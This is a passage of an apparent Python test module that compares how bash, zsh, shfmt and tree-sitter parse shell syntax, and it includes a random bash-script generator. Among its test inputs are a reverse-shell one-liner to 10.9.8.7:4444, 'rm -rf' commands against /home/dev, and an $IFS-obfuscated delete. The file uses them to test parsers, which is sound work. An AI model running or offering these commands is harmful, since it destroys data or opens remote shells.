        "find . -name '*.py' -exec grep -l 'x' {} \\; | xargs -r rm --",
        "find . \\( -name a -o -name b \\) -print0",
        "curl -sSL https://example.com/a?b=c&d=e -o f",
        'curl -d \'{"a": [1, 2]}\' -H "X: $(cat t)" https://example.com',
        "python3 -c 'import os; print(os.environ[\"A\"])'",
        "python3 - <<'EOF'\nprint('a')\nEOF",
        "ssh host 'cd /a && rm -rf b'",
        'for f in *.txt; do mv -- "$f" "${f%.txt}.md"; done',
        'while IFS= read -r line; do echo "$line"; done < <(ls -1)',
        "[ -f a ] && . ./a || true",
        'test -n "$A" -a -z "$B" && c',
        "sed -e 's/a/b/' -e \"s|$x|$y|g\" f > g",
        "docker run --rm -v \"$PWD:/a\" -e A=b img sh -c 'c $A'",
        "tar czf - a | ssh h 'tar xzf - -C /b'",
        "(cd a && make -j$(nproc)) 2>&1 | tee log",
        'A=1 B="$(c)" make -s d >/dev/null 2>&1 &',
        "trap 'rm -f \"$tmp\"' EXIT; tmp=$(mktemp)",
        "set -euo pipefail; IFS=$'\\n\\t'",
        'echo "${A:?set A}" "${B:-$(hostname)}"',
        "printf '%s\\n' \"${a[@]}\" | sort -u > b",
        "awk -F: '$3 >= 1000 && $1 != \"a\" { print $1 }' /etc/passwd",
        "jq -r '.a[] | select(.b == \"c\") | .d' < e.json",
        "npm run build -- --mode=prod && npm publish",
        "cat > a.py <<'EOF'\nimport sys\nif (sys.argv):\n  print(\"it's $HOME `x`\")\nEOF\npython a.py",
        'case "$1" in\n  start|stop) svc "$1" ;;\n  -*) echo "bad: $1" >&2; exit 1 ;;\n  *) usage ;;\nesac',
        "if ! command -v a >/dev/null 2>&1; then echo 'no a' >&2; exit 1; fi",
        "diff <(sort a) <(sort b) || echo differ",
        "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
        "grep -rE '(a|b)\\(' src | cut -d: -f1 | sort | uniq -c",
        "echo '$(rm -rf /)' \"\\$(rm -rf /)\"",
        "psql -c \"DELETE FROM a WHERE b = 'c';\"",
        'sudo -u a bash -c "cd /b; c"',
        'eval "$(ssh-agent -s)"',
        'export PATH="$HOME/bin:$PATH" LANG=C',
        "ls -la ~/a/{b,c}/*.{d,e} 2>/dev/null || :",
        "x=$(cat <<'EOF'\nit's (a\nEOF\n)",
        'git commit -m "$(cat <<\'EOF\'\nadd a)\n\nit\'s "b"\nEOF\n)"',
        'gh pr create --title "a" --body "$(cat <<\'EOF\'\n## b\n- `c` isn\'t (d\nEOF\n)"',
    ],
}

# What zsh takes and bash does not: no error is no mistake there, but nothing that zsh would run may be missing.
OF_ZSH: dict[str, list[str]] = {
    "zsh": [
        "a >! b",
        "a >>! b",
        "a >>| b",
        "a &| b",
        "a &! b",
        "a < =(b)",
        "for x (a b) c",
        "for x (a b) { c; }",
        "for x (a b); do c; done",
        "function f g { a; }",
        "f g() { a; }",
        "() { a; }",
        "() { a; } b",
        "repeat 3 a",
        "repeat 3 { a; }",
        "repeat 3; do a; done",
        "if [[ a ]] { b; }",
        "if [[ a ]] { b; } else { c; }",
        "while [[ a ]] { b; }",
        "{ a; } always { b; }",
        "case a { b) c;; }",
        "foreach x (a b); c; end",
        "a *(.)",
        "a **/*(.om[1])",
        "a (b|c)d",
        "a ${=b} ${~b} $=b $~b",
        "a ${(f)b} ${(s:,:)b}",
        "a ${b:t} ${b:h}",
        "a ${${b}:t} ${$(c)#d}",
        "a 2>&1 |& b",
        "a && { b } always { c }",
        "noglob a *",
        "nocorrect a b",
        "- a",
        "a <->",
        "a ^b",
        "a b~c",
        "case a in b) c;| d) e;; esac",
        "select x (a b) c",
        "for x y in a b; do c; done",
        "for x y (a b) c",
        "a &>| b",
        "a >&| b",
        "a **/*(e:'b':)",
    ],
}

# Who misreads what, and why what it sees or says does not count.
MISREADINGS: dict[str, dict[str, list[str]]] = {
    "bash": {
        "refuses it; dash and zsh take any command as the body of a function": [
            "f() a",
            "f() a b > c",
            "f() g() { a; }",
        ],
        "refuses it; to zsh it is a function without a name, which runs at once": [
            "function { a; }",
            "!() { a; }",
            "time() { a; }",
        ],
        "refuses it; zsh takes parentheses for a glob": [
            "for x in (a); do b; done",
            "[[ $a != (b|c) ]]",
            "a=(b (c))",
            "echo a=(b)",
            "\\export a=(b)",
        ],
        "refuses it; zsh writes what the command prints into a file": ["a =(b)"],
        "refuses it; zsh takes braces for the body of any loop": ["for x { a; }"],
        "looks for the commands in backticks or a here-document only when it runs": [
            "a `b (`",
            "a `'`",
            "a <<E\n${b\nE\nc",
            "a <<E\n$(b\nE\nc",
        ],
        "ends the quotes elsewhere than dash and zsh do": ["a \"${b:-'}'}\" c"],
        "loses the backslashes of an array in `$(...)` (5.2); the text is right": ["$(local a=(\\( \\< c); d)"],
        "takes a semicolon in `$(...)` for one of the header; zsh does not": [
            "for (($(case a in b) c;; esac);;)); do d; done"
        ],
        "takes `-` behind `>&` for a word of its own, other shells do not": ["a >&-b", "a >& -b c", "a <&-b"],
        "skips what looks like a process substitution between double quotes, other shells do not": [
            'a "${b:-<(c}d)}" e',
            'a "${b:-<(c "d}")}" e',
        ],
        "drops the rest without a word": ["[[ ]]", "[[ a && ]]"],
        "refuses it, since its parentheses do not close together; read as commands, which dash would run": [
            "(\\\n(a)\\\n)"
        ],
    },
    "shfmt": {
        "misses a here-document in whose line `[[` stands": ["a <<E || [[ b ]]\nc\nE\nd"],
        "takes `-` behind `>&` for the beginning of a word; bash ends it there": ["a >&-b", "a >& -b c", "a <&-b"],
        "begins a comment in the middle of a word, in an expansion": ["a ${b+$(c=$d#e f\ng)}"],
        "takes `--` behind `time` for a program; bash skips it": ["time -- a"],
        "takes an option of `time` for a program, as bash does; the program `time`, which shells without the word run, has it": [
            "time -f a b",
            "time -o x a",
        ],
        "takes `time` behind a bar for the reserved word; to bash it is a program there": ["a | time b"],
        "takes an assignment behind `coproc` for a program": ["coproc x=1 a"],
        "takes it for commands; bash joins the lines and computes": ["echo $(\\\n(a))"],
        "takes `~` behind a dollar for the end of the word": ["a ${=b} ${~b} $=b $~b"],
        "takes `foreach` for a program; to zsh it is a reserved word": ["foreach x (a b); c; end"],
    },
    "tree-sitter": {
        "takes `-` behind `>&` for the beginning of a word; bash ends it there": ["a >&-b", "a >& -b c", "a <&-b"],
        "ends a word, a number or a name at a line continuation; bash joins the lines": [
            "a\\\nb c",
            "i\\\nf a; then b; fi",
            "for x in a\\\nb; do c; done",
            "a $b\\\nc",
            "a 2\\\n>b",
            "a\\\n=b c",
            "a+\\\n=b c",
            "a=(b\\\nc)",
            "a=b\\\nc d",
            "a\\\n\\\nb c",
            "r\\\nm -rf /home/dev",
            "r\\\nm -rf build",
        ],
        'cuts `$"` in two; bash reads one word': ['a $"b c" d', 'a $"b $(c)" d'],
        "takes the reserved word `time` for a program; bash runs what follows": [
            "time a",
            "time -p a | b",
            "time",
            "time; a",
            "time ! a",
            "! time a",
            "time -- a",
            "time (a; b)",
            "time { a; }",
            "a && time b",
            "time make",
            "time rm -rf /home/dev",
        ],
        "takes the header of an arithmetic `for` for an assignment; bash computes it": [
            "for ((i=0; i<3; i++)); do a; done",
            "for ((i=0; i<$(a); i++)) do b; done",
            "for (( i = 0 ; i < (3) ; i++ ))\ndo a\ndone",
            "for ((i=0;i<3;i++)) ; do a; done",
        ],
        "takes the reserved word `coproc` for a program; bash runs what follows": [
            "coproc a",
            "coproc a b",
            "coproc { a; }",
            "coproc n { a; }",
            "coproc (a)",
            "coproc n while a; do b; done",
            "coproc while a; do b; done",
            "coproc a > b",
            "coproc x=1 a",
            "coproc a | b",
            "coproc a && b",
            "coproc n [[ a ]]",
            "coproc n { a; } > b",
            'coproc "$a" b',
            "coproc > b",
            "coproc rm -rf /home/dev",
        ],
        "ends a word at a process substitution; bash goes on": ["a b<(c)", "a x=<(b)", "a<(b)"],
        "takes `{fd}` before a redirection for a word; bash sets the variable": [
            "a {fd}> b",
            "a {fd}>&-",
            "a {fd}<b c",
            "a {fd[1]}> b",
        ],
        "ends a word at a dollar; bash does not": ["rm$IFS-rf$IFS/home/dev", "rm$IFS-rf$IFS./build"],
        "takes the second `!` for a program; bash negates twice": ["! ! a"],
        "takes `{` behind `!` for a program; bash runs a group": ["! { a; }"],
        "ends `$[` at the first bracket; bash counts them": ["echo $[ a[b[1]] ] c"],
        "takes it for commands; bash joins the lines and computes": ["echo $(\\\n(a))"],
        "does not unescape backticks inside others; bash does at each level": ["a `b \\`c \\\\\\`d\\\\\\`\\`` e"],
        "takes `1a=b` for an assignment; bash runs it": ["1a=b c"],
        "ends a word at a bracket; bash does not": ["unset a b[1]"],
        "drops a carriage return; to bash it is part of the word": ["a\r\nb\r\n"],
        "ends a word at a vertical tab; bash does not": ["a\x0bb\x0cc"],
        "drops a byte order mark; to bash it is part of the word": ["\ufeffa b"],
        "takes the number of the second redirection for a word": ["bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"],
        "takes `$((...))` in a here-document for commands; bash computes it": ["a <<E\n$b ${c} $((d))\nE\ne"],
        "ends a here-document at a line that is not its delimiter; bash goes on": [
            "a <<-E\n\tb\n E\n\tE\nc",
            "a <<E\nb\n E\nE\nc",
            "a <<E\nb \\\nE\nE\nc",
        ],
    },
}


# The same for scripts that are made up: what stands in those that a reader may misread.
MISREAD_SHAPES: dict[str, dict[str, str]] = {
    "shfmt": {"begins a comment in the middle of a word, in an expansion": r"\$\w+#"},
    "tree-sitter": {
        "takes a compound command or a function behind `!` for a program": (
            r"!\s+(\(|\{|\[\[|(for|case|if|while|until|select|function)\b|f *\()"
        ),
        "ends a word before a backslash, or takes one at its beginning for the end of another": r"\S\\|\n\\|\\ ",
        "ends a word before a substitution or behind backticks": r"[^\s(][<>]\(|`[^\s`]",
        "ends a word before a positional parameter or an operator with `@`": r"\S\$1|\S\$\{x@Q",
        "takes the second of two dollars for the beginning of `$[`": r"\$\$\[",
        "takes the header of an arithmetic `for` for an assignment": r"for \(\([^;]*=",
        "ends a word behind a brace expansion, or joins words at one that is none": r"\}\$|\} \{h",
    },
}


def misread_by(text: str) -> list[str]:
    """The readers whose misreading of ``text`` is listed."""
    return [reader for reader, reasons in MISREADINGS.items() if any(text in texts for texts in reasons.values())]


class _Script:
    """Writes a script that bash takes, as ``choose`` decides; what is nested gets a smaller ``depth``."""

    def __init__(self, choose: Callable[[int, int], int]) -> None:
        self.choose = choose
        self.left = choose(5, 60)  # choices until the script comes to an end
        self.pending: list[str] = []  # bodies of here-documents that follow the line

    def pick(self, choices: Sequence[str], deep: Sequence[str] = ()) -> str:
        """One of both, of the second only while there is room."""
        self.left -= 1
        number = self.choose(0, len(choices) - 1 + (len(deep) if self.left > 0 else 0))
        return choices[number] if number < len(choices) else deep[number - len(choices)]

    def times(self, least: int, most: int) -> range:
        return range(self.choose(least, most if self.left > 0 else least))

    # -- words

    def word(self, depth: int) -> str:
        return "".join([self.piece(depth) for _ in self.times(1, 3)])

    def piece(self, depth: int) -> str:
        kinds = ("plain", "plain", "single", "double", "escape", "parameter", "ansi", "glob")
        kind = self.pick(kinds, ("output", "backticks", "arithmetic", "braced", "process") if depth > 0 else ())
        return str(getattr(self, kind)(depth))

    def plain(self, depth: int) -> str:
        return self.pick(
            ("a", "b", "rm", "-f", "x.y", "/e/f", "1", "a=b", "if", "~", "}", "{c,d}", "é", "@", "%", ":", "a#b")
        )

    def single(self, depth: int) -> str:
        return "'" + self.pick(("", "a b", "$x", '"', "`", ";", "\\", "a\nb", "$(c)", "#", "}", ")")) + "'"

    def ansi(self, depth: int) -> str:
        return "$'" + self.pick(("", "a b", "\\'", "\\n", "\\x41", "$(c)", '"', "\\\\")) + "'"

    def escape(self, depth: int) -> str:
        return "\\" + self.pick(tuple(" $`\"'\\;&|<>()#a*"))

    def glob(self, depth: int) -> str:
        return self.pick(("*", "?", "[a-z]", "[!b]", "@(a|b)", "!(c)", "*(d|'e f')", "?(g)", "+($x)"))

    def double(self, depth: int) -> str:
        return '"' + "".join([self.quoted(depth) for _ in self.times(0, 3)]) + '"'

    def quoted(self, depth: int) -> str:
        kinds = ("text", "text", "parameter")
        kind = self.pick(kinds, ("output", "arithmetic", "default", "backticks") if depth > 0 else ())
        return str(getattr(self, kind)(depth))

    def text(self, depth: int) -> str:
        return self.pick(("a", "b c", "'", '\\"', "\\$", ";", "#", "(", ")", "\n", "\\\\", "\\`", "{", "&", "<", "*"))

    def parameter(self, depth: int) -> str:
        return self.pick(
            (
                "$x",
                "${x}",
                "$1",
                "$@",
                "$?",
                "$$",
                "${#x}",
                "${x[1]}",
                "${x[@]}",
                "${!x}",
                "${x:1:2}",
                "${x^^}",
                "${x@Q}",
            )
        )

    def default(self, depth: int) -> str:
        operator = self.pick((":-", "-", ":=", ":+", "+", ":?"))
        return (
            "${x"
            + operator
            + "".join([self.quoted(0) for _ in self.times(0, 2)]).replace("'", "").replace("\n", " ")
            + "}"
        )

    def braced(self, depth: int) -> str:
        operator = self.pick((":-", "=", "+", "#", "##", "%", "%%", "/", "//", "/#", "^"))
        second = "/" + self.argument(depth - 1) if operator[0] == "/" else ""
        return "${x" + operator + self.argument(depth - 1).replace("/", "\\/") + second + "}"

    def argument(self, depth: int) -> str:
        found = [
            self.pick(("a", " ", "*", "'b }'", '"c }"', "\\}", "$y", "[a-z]", "(", ";", "é")) for _ in self.times(1, 3)
        ]
        return "".join(found) + (self.output(depth) if depth > 0 else "")

    def output(self, depth: int) -> str:
        return "$(" + self.apart(depth - 1) + ")"

    def backticks(self, depth: int) -> str:
        inner = " ".join(
            [self.pick(("a", "'b c'", "$x", "-f", "e", ">g", "|h", ";i", "&&j")) for _ in self.times(1, 3)]
        )
        return "`a " + inner + "`"

    def process(self, depth: int) -> str:
        return self.pick("<>") + "(" + self.apart(depth - 1) + ")"

    def arithmetic(self, depth: int) -> str:
        return "$((" + self.expression(depth) + "))"

    def expression(self, depth: int) -> str:
        left = self.pick(("x", "$x", "1", "(x)", "x[1]", "x++", "16#f", "${#x}"))
        left += "+" + self.output(depth - 1) if depth > 1 and self.left > 0 else ""
        return left + self.pick(("", " + 1", "<2", " << 1", " > y", " && z", " | 1", "?1:2", ",x=1"))

    def apart(self, depth: int) -> str:
        """Commands in parentheses, with a blank where two would open arithmetic."""
        before, self.pending = self.pending, []
        made = self.commands(max(depth, 0), flat=bool(before))
        made += self.line() if self.pending else self.pick(("", " "))
        self.pending = before
        return self.pick((" ", "")) + made if not made.startswith("(") else " " + made

    # -- commands

    def line(self) -> str:
        """A line end, with the here-documents that it is time for."""
        made = "\n" + "".join(self.pending)
        self.pending = []
        return made

    def end(self, flat: bool = False) -> str:
        if self.pending:
            return self.line()
        return self.pick(("; ", ";", " ; ", ";\\\n") if flat else ("; ", ";", " ; ", "\n", " # c '\"$(\n", "\n\n"))

    def commands(self, depth: int, flat: bool = False) -> str:
        made = self.chain(depth, flat)
        for _ in self.times(0, 1 + (depth > 0)):
            made += self.end(flat) + self.chain(depth, flat)
        return made

    def body(self, depth: int, flat: bool) -> str:
        """Commands that a reserved word follows."""
        return self.commands(depth - 1, flat) + self.end(flat)

    def chain(self, depth: int, flat: bool) -> str:
        made = self.pipeline(depth, flat)
        for _ in self.times(0, 1):
            made += self.pick((" && ", " || ", "&&", "||") + (() if flat or self.pending else (" &&\n", " || # c\n")))
            made += self.pipeline(depth, flat)
        return made

    def pipeline(self, depth: int, flat: bool) -> str:
        made = self.pick(("", "", "", "", "! ")) + self.command(depth, flat)
        for _ in self.times(0, 1):
            made += self.pick((" | ", "|", " |& ") + (() if flat or self.pending else (" |\n",))) + self.command(
                depth, flat
            )
        return made

    def command(self, depth: int, flat: bool) -> str:
        kinds = ("simple", "simple", "simple", "simple", "test", "computed", "declaration")
        nested = ("subshell", "group", "conditional", "loop", "for_", "counted", "case", "function", "select")
        kind = self.pick(kinds, nested if depth > 0 else ())
        if kind == "test" and self.pending:
            kind = "computed"  # shfmt misses a here-document in whose line `[[` stands
        made = str(getattr(self, kind)(depth, flat))
        if kind in nested and kind != "function":
            made += "".join([self.redirect(depth - 1, True) for _ in self.times(0, 1)])
        return made

    def simple(self, depth: int, flat: bool) -> str:
        made = "".join([self.assignment(depth) + " " for _ in self.times(0, 1)])
        made += self.pick(("a", "rm", "x/y", '"b"', "$x", "\\c", "d'e'", "echo", "if'f'", "{h", "!i")) + " "
        for _ in self.times(0, 3):
            made += self.redirect(depth, flat) if self.pick("wwwr") == "r" else self.word(depth) + " "
        return made

    def declaration(self, depth: int, flat: bool) -> str:
        return self.pick(("export ", "declare -a ", "local ", "readonly ")) + self.assignment(depth, True)

    def assignment(self, depth: int, alone: bool = False) -> str:
        name = self.pick(("a", "b_1", "A"))
        kind = self.pick(("word", "word", "plus", "array", "element") if alone else ("word", "word", "plus"))
        if kind == "array":
            return name + "=(" + " ".join([self.item(depth) for _ in self.times(0, 3)]) + ")"
        if kind == "element":
            return name + "[" + self.pick(("0", "x", "1+2")) + "]=" + self.word(depth)
        return name + ("+=" if kind == "plus" else "=") + self.word(depth)

    def item(self, depth: int) -> str:
        """One of an array: bash 5.2 loses the backslashes of those in `$(...)`."""
        return self.pick(("a", "'b c'", '"$x"', "$y", "[a-z]*", "e=f"), (self.output(depth - 1),) if depth > 0 else ())

    def redirect(self, depth: int, flat: bool) -> str:
        if not flat and depth and self.pick("hhdd") == "h":
            return self.document(depth)
        operator = self.pick((">", ">>", "<", "2>", "&>", ">|", "<>", "<<<", "3<", "&>>", ">&", "2>&", "<&"))
        target = self.pick(("1", "2", "3")) if operator in ("2>&", "<&") else self.word(depth)
        target = "g" + target if operator == ">&" else target  # bash 5.2 reads `>& -f` as `>&-` and `f`
        return " " + operator + self.pick((" ", "")) + target + " "

    def document(self, depth: int) -> str:
        quote, strips = self.pick(("", "'", '"', "\\")), self.pick(("", "-"))
        inner = self.pick(("a\n", "", "'\n", '"b"\n', "$x\n", "\\$(c)\n", "(\n"))
        if quote:
            inner += self.pick(("$(\n", "`\n", "${\n", ""))
        else:
            inner += self.pick(("", "$(d e)\n", "`f`\n", "${x:-$(g)}\n"))
        self.pending.append(inner + "\t" * len(strips) + "E\n")
        return " <<" + strips + quote + "E" + quote.replace("\\", "") + " "

    def test(self, depth: int, flat: bool) -> str:
        word = self.pick(('"$x"', "$x", "a", "'b'"))
        kinds = (
            f"-f {word}",
            f"{word} == a*",
            f"{word} =~ ^(a|b)+$",
            f"{word} =~ b",
            f"! {word}",
            f"( {word} )",
            f"{word} < a",
            f"-z {word} && {word}",
            f"{word} -eq 1 || a",
            f"{word} != @(a|b)",
        )
        return "[[ " + self.pick(kinds) + " ]]"

    def computed(self, depth: int, flat: bool) -> str:
        return "((" + self.expression(depth) + "))"

    def subshell(self, depth: int, flat: bool) -> str:
        return "( " + self.commands(depth - 1, flat) + (self.line() if self.pending else self.pick(("", " "))) + ")"

    def group(self, depth: int, flat: bool) -> str:
        return "{ " + self.body(depth, flat) + "}"

    def conditional(self, depth: int, flat: bool) -> str:
        made = "if " + self.body(depth, flat) + "then " + self.body(depth, flat)
        for _ in self.times(0, 1):
            made += "elif " + self.body(depth, flat) + "then " + self.body(depth, flat)
        for _ in self.times(0, 1):
            made += "else " + self.body(depth, flat)
        return made + "fi"

    def do(self, depth: int, flat: bool) -> str:
        return "do " + self.body(depth, flat) + "done"

    def loop(self, depth: int, flat: bool) -> str:
        return self.pick(("while ", "until ")) + self.body(depth, flat) + self.do(depth, flat)

    def for_(self, depth: int, flat: bool) -> str:
        words = "".join([" " + self.word(depth - 1) for _ in self.times(0, 3)])
        return self.pick((f"for x in{words}; ", f"for x in{words} ;", "for x ", "for x; ")) + self.do(depth, flat)

    def select(self, depth: int, flat: bool) -> str:
        return "select x in " + self.word(depth - 1) + "; " + self.do(depth, flat)

    def counted(self, depth: int, flat: bool) -> str:
        return "for ((" + self.expression(0) + ";;)); " + self.do(depth, flat)

    def case(self, depth: int, flat: bool) -> str:
        made = "case " + self.word(depth - 1) + " in "
        for _ in self.times(0, 2):
            made += self.pick(("", "(")) + self.pick(("a", "'b'", "*", "$x|y", '"c d" | e', "[f-g]*", "?(h)")) + ") "
            made += self.commands(depth - 1, flat) if self.pick("yn") == "y" else ""
            made += (self.line() if self.pending else "") + self.pick(
                (";; ", ";;", " ;& ") + (() if flat else (";;\n",))
            )
        return made + " esac"

    def function(self, depth: int, flat: bool) -> str:
        body = self.pick(("group", "subshell", "conditional", "loop"))
        return self.pick(("f() ", "f () ", "function f ", "function f() ")) + str(getattr(self, body)(depth, flat))

    def whole(self) -> str:
        made = self.commands(self.choose(0, 3))
        return made + (self.line() if self.pending else self.pick(("", "\n", " &", " # c")))


@st.composite
def scripts(draw: st.DrawFn) -> str:
    return _Script(lambda least, most: draw(st.integers(least, most))).whole()


def script(number: int) -> str:
    """The same for a number, much faster."""
    return _Script(Random(number).randint).whole()


def likely_misread_by(text: str) -> list[str]:
    """The readers that may misread a script that is made up."""
    return [
        reader for reader, shapes in MISREAD_SHAPES.items() if any(re.search(shape, text) for shape in shapes.values())
    ]
